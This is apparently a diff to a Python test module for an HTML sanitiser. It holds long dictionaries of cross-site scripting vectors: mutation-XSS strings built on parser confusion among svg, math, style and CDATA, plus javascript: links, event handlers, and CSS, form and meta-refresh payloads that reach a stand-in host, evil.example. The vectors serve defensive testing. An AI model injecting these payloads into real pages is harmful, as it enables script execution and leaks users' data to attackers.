@@ -1,7 +1,7 @@
 """Hostile inputs: markup that runs where it gets through, bodies that cost, and what to judge the outcome by.
 
 Every vector calls `alert`, or asks for an address at evil.example, if any part of it is let through as it came.
-Each holds the word `word`, which stays visible whatever becomes of the rest.
+Where a vector holds the word `word`, a browser shows it, and it must stay.
 """
 
 # ruff: noqa: E501 - markup is read in one piece
@@ -12,7 +12,6 @@ from html.parser import HTMLParser
 from urllib.parse import urlsplit
 
 import lxml.html
-from bs4 import BeautifulSoup
 from selectolax.lexbor import LexborHTMLParser
 
 _RUN = "<img src=x onerror=alert(1)>"
@@ -26,16 +25,16 @@ MUTATIONS = {
     "mi mglyph": f"<math><mi><table><mglyph><style><!--</style>{_TITLE}",
     "mtext form in form": f"<form><math><mtext></form><form><mglyph><style></math>{_RUN}",
     "mglyph and svg": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_RUN}'>",
-    "svg p style": f"<svg></p><style><a id=\"</style>{_RUN}\">",
+    "svg p style": f'<svg></p><style><a id="</style>{_RUN}">',
     "svg style comment": f"<svg><style><!--</style>{_TITLE}-->",
-    "svg title style": f"<svg><title><style><a id=\"</style></title></svg>{_RUN}\"></a></style></title></svg>",
-    "svg desc style": f"<svg><desc><style><a title=\"</style>{_RUN}\"></style></desc></svg>",
-    "svg foreignObject": f"<svg><foreignObject><p><style><a id=\"</style>{_RUN}\"></style></foreignObject></svg>",
+    "svg title style": f'<svg><title><style><a id="</style></title></svg>{_RUN}"></a></style></title></svg>',
+    "svg desc style": f'<svg><desc><style><a title="</style>{_RUN}"></style></desc></svg>',
+    "svg foreignObject": f'<svg><foreignObject><p><style><a id="</style>{_RUN}"></style></foreignObject></svg>',
     "svg foreignObject iframe": '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-    "svg in math": f"<math><svg><mtext><style><img title=\"</style>{_RUN}\"></style></svg></math>",
+    "svg in math": f'<math><svg><mtext><style><img title="</style>{_RUN}"></style></svg></math>',
     "annotation-xml html": f'<math><annotation-xml encoding="text/html"><style><a title="</style>{_RUN}"></style></annotation-xml></math>',
     "annotation-xml svg": f'<math><annotation-xml encoding="application/xhtml+xml"><svg><style><!--</style>{_TITLE}',
-    "cdata in svg": f"<svg><![CDATA[><image xlink:href=\"]]>{_RUN}//\"></svg>",
+    "cdata in svg": f'<svg><![CDATA[><image xlink:href="]]>{_RUN}//"></svg>',
     "cdata in math": f"<math><![CDATA[<mi>]]>{_RUN}]]></math>",
     "cdata in html": f"<![CDATA[<p>{_RUN}]]>",
     "svg script cdata": "<svg><script><![CDATA[alert(1)]]></script></svg>",
@@ -67,12 +66,12 @@ MUTATIONS = {
     "comment, dash bang dash": f"<!----!-->{_RUN}-->",
     "comment, conditional": f"<!--[if true]>{_RUN}<![endif]-->",
     "comment never closed": f"word<!-- {_RUN}",
-    "comment, bogus": f"<! foo=\"><script>alert(1)</script>\"><?x {_RUN}?></ {_RUN}>",
+    "comment, bogus": f'<! foo="><script>alert(1)</script>"><?x {_RUN}?></ {_RUN}>',
     "comment, end of a doctype": f'<!DOCTYPE x [<!ENTITY y "{_RUN}">]>&y;',
     "table foster parent": f"<table><a><table><b><p><style><!--</style>{_TITLE}</table>",
     "a in a table in a": f"<a href=//evil.example/><table><a href=javascript:alert(1)>{_RUN}</table>",
     "button in button": f"<button><table><button>{_RUN}<style><!--</style>{_TITLE}</button>",
-    "nested forms": f'<form id="x"><div></form><form><input form=x formaction="javascript:alert(1)" type=image src=x onerror=alert(1)>',
+    "nested forms": '<form id="x"><div></form><form><input form=x formaction="javascript:alert(1)" type=image src=x onerror=alert(1)>',
     "caption and style": f"<table><caption><svg><style><!--</style>{_TITLE}</caption></table>",
     "colgroup template": f"<table><colgroup><template><col><style></template>{_RUN}</style></colgroup></table>",
     "frameset": f"<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>{_RUN}",
@@ -81,12 +80,12 @@ MUTATIONS = {
     "br closed in math": f"<math></br><style><!--</style>{_TITLE}</math>",
     "font breaks out of svg": f"<svg><font color=x><style><!--</style>{_TITLE}</font></svg>",
     "mathml breaks out by size": f"<math><font size=1>{_RUN}</font></math>",
-    "deep enough to be flattened": "<div>" * 600 + f"<svg></p><style><a id=\"</style>{_RUN}\">" + "</div>" * 600,
+    "deep enough to be flattened": "<div>" * 600 + f'<svg></p><style><a id="</style>{_RUN}">' + "</div>" * 600,
     "many enough to be flattened": "<i>x</i>" * 5_000 + f"<math><mtext><table><mglyph><style><!--</style>{_TITLE}",
     "long enough to be flattened": f'<p title="{"<" * 30_000}</p>{_RUN}">word</p><xmp></xm{_RUN}</xmp>',
-    "style across the bound": "<b>" * 5_000 + f"<style><a title=\"</style>{_RUN}\"></style>",
+    "style across the bound": "<b>" * 5_000 + f'<style><a title="</style>{_RUN}"></style>',
     "tag across the bound": f'<a {"b=1 " * 5_000} title="><!--">--><style></a{_RUN}</style>',
-    "noscript across the bound": "<i>x</i>" * 5_000 + f'<noscript><p title="</noscript>{_RUN}">word</noscript>',
+    "noscript across the bound": "<i>x</i>" * 5_000 + f'<noscript><p title="</noscript>{_RUN}"></noscript>',
 }  # fmt: skip
 
 ACTIVE = {
@@ -110,9 +109,9 @@ ACTIVE = {
     "link by mail": '<a href="mailto:a@b.c?body=%0d%0a&quot;onmouseover=alert(1)">word</a><a href="mailto:x\'&quot;><img src=x onerror=alert(1)>@b.c">a</a>',
     "link without a scheme": '<a href="//evil.example\\@good.example/&quot;onclick=alert(1)//">word</a><a href="\\\\evil.example/">a</a><a href="https:javascript:alert(1)">b</a>',
     "link that pings": '<a href="https://a.example/" ping="//evil.example/ping" target=_blank download>word</a>',
-    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text y=20>word</text></a></svg><math xlink:href="javascript:alert(1)"><mi>word</mi></math>',
+    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg><math xlink:href="javascript:alert(1)"><mi>word</mi></math>',
     "mathml link": '<math href="javascript:alert(1)">word</math><math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
-    "svg animate": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>word</text></a><set attributeName=onmouseover to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a><set attributeName=onmouseover to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
     "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/><use xlink:href="//evil.example/x.svg#y"/><image href="//evil.example/z" onload=alert(1)></svg>',
     "svg load": "<svg onload=alert(1)><svg/onload=alert(1)></svg><svg><script href=data:,alert(1) /></svg>",
     "svg style": "<svg><style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style></svg>",
@@ -123,7 +122,7 @@ ACTIVE = {
     "form elsewhere": '<form action="//evil.example/f"><input type=image src="//evil.example/i" formaction="javascript:alert(1)"><input name=q autofocus></form>',
     "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/r"><META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:alert(1)">',
     "base": '<base href="//evil.example/"><a href="x">word</a><img src="relative.png">',
-    "link element": '<link rel=stylesheet href=//evil.example/l.css><link rel=import href=//evil.example/l.html><link rel=prefetch href=//evil.example/p>',
+    "link element": "<link rel=stylesheet href=//evil.example/l.css><link rel=import href=//evil.example/l.html><link rel=prefetch href=//evil.example/p>",
     "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="a=b">',
     "style element": "<style>@import url(//evil.example/a.css);body{position:fixed;background:url('//evil.example/b.png')}</style>",
     "style attribute": '<p style="position:fixed;top:0;background:url(//evil.example/c.png);width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#y);behavior:url(z)">word</p>',
@@ -149,7 +148,7 @@ ACTIVE = {
     "escaped twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt; word",
     "angle brackets of other scripts": "＜script＞alert(1)＜/script＞‹img src=x onerror=alert(1)›ʺ word",
     "old encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- word \x1b$B<script>alert(1)</script>",
-    "end of CDATA": "]]><script>alert(1)</script><![CDATA[ word ]]&gt; ]]>",
+    "end of CDATA": "]]><script>alert(1)</script><![CDATA[ x ]]&gt; ]]> word",
     "player's mark": '\U0010fffd<a href="javascript:alert(1)">\U0010fffdword</a>',
     "cut marks": '<p data-feedarchiver-cut="<script>alert(1)</script>">x</p><p data-feedarchiver-shares>word</p>',
 }  # fmt: skip
@@ -190,12 +189,10 @@ class _Tags(HTMLParser):
 
 
 def _elements(html: str) -> Iterator[tuple[str, dict[str, str | None]]]:
-    """Read `html` as four parsers do, and the result of one of them once more."""
+    """Read `html` as three parsers do, and what one of them writes once more."""
     yield from _Tags(html).found
     for element in lxml.html.document_fromstring(f"<div>{html}</div>").iter():
         yield str(element.tag) if isinstance(element.tag, str) else "<!--", dict(element.attrib)
-    for element in BeautifulSoup(f"<div>{html}</div>", "lxml").find_all(name=True):
-        yield element.name, {name: str(value) for name, value in element.attrs.items()}
     for text in (html, LexborHTMLParser(f"<body>{html}").body.inner_html or ""):
         for node in LexborHTMLParser(f"<body>{text}").body.css("*"):
             yield node.tag, node.attributes
